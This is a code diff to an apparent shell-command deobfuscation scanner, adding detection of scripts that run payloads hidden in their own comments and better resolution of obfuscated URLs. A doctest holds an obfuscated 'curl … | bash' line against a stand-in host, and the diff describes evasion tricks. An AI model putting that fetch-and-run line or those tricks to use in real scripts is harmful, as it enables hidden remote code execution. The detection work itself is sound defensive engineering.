@@ -68,6 +68,9 @@ _ANSI_LETTERS = {"n": " ", "t": " ", "r": "", "e": "", "a": "", "\\": "\\", "'":
 _FILE = re.compile(r"(?:[~$./]|[A-Za-z]:\\|\w[\w-]*\.)[^\s,;=()]*")
 _INNER_FILE = re.compile(r"\$\( (?:[^()]{0,200}?[\s<])?((?:~|\$\w{1,40}|\.{0,2})/[\w./-]{2,200})(?=[\s)])")
 """A file that a command reads within a word."""
+_OF_ITSELF = re.compile(
+    r"\bsed\s+-n\w*\s+[\"']s[/|]\^(?P<sed>#[^\s/|\\*.\[]{0,12} ?)[/|]{2}p[\"']\s+\"?\$\{?(?:0|BASH_SOURCE)|\bgrep\s+(?:-\w+\s+)*[\"']\^(?P<grep>#[^\s\"'\\*.\[]{1,12} ?)[\"']\s+\"?\$\{?(?:0|BASH_SOURCE)"
+)
 _BUCKET = re.compile(r"(?:s3|gs|r2|b2|oss|cos)://[\w.-]+/[^$`]{0,200}")
 """Where a bucket lies, whatever is worked out behind it."""
 _PLAIN_FILE = re.compile(r"[\w-]+\.\w{1,8}")
@@ -129,6 +132,10 @@ def shell_statements(text: str, path: str, *, first_line: int = 1, is_live: bool
     >>> [s.text for s in shell_statements('a=cu; b=rl; $a$b -s "http://x.invalid/i" \\\n | b""ash', "x")][-1]
     'curl -s http://x.invalid/i | bash'
     """
+    if own := _OF_ITSELF.search(text):
+        # A script that runs what its own comments say.
+        begin = own["sed"] or own["grep"]
+        text += "\n" + "\n".join([line[len(begin) :] for line in text.split("\n") if line.startswith(begin)])
     known = _Known(room=[_MAX_TOLD + 2 * len(text)])
     found = _statements(text, path, first_line, is_live, known, 0)
     if found and known.room[0] < 0:
@@ -613,7 +620,9 @@ def _expanded(text: str, place: int, known: _Known) -> tuple[str, int]:
     if text.startswith("${", place) and (end := text.find("}", place)) >= 0:
         value = parameter(text[place + 2 : end], known)
         if value is not None and (
-            value.rpartition("/")[2] in TOOLS or (found and "-" not in found[0] and found[1] in known)
+            value.rpartition("/")[2] in TOOLS
+            or value in ("", "http", "https", "ftp")
+            or (found and "-" not in found[0] and found[1] in known)
         ):
             return value if known.has_room(len(value)) else text[place : end + 1], end + 1
     if not found:
@@ -635,7 +644,8 @@ def _expanded(text: str, place: int, known: _Known) -> tuple[str, int]:
 def _substituted(inner: str, known: _Known) -> str:
     """What a command prints where it is told by what it says, or else the command."""
     told = printed(inner) if len(inner) < _MAX_EVERY else None
-    return told if told and told.rpartition("/")[2] in TOOLS else f"$( {_filled_in(inner, known)} )"
+    is_told = told and (told.rpartition("/")[2] in TOOLS or "://" in told)
+    return told if told and is_told else f"$( {_filled_in(inner, known)} )"
 
 
 def _filled_in(inner: str, known: _Known) -> str:
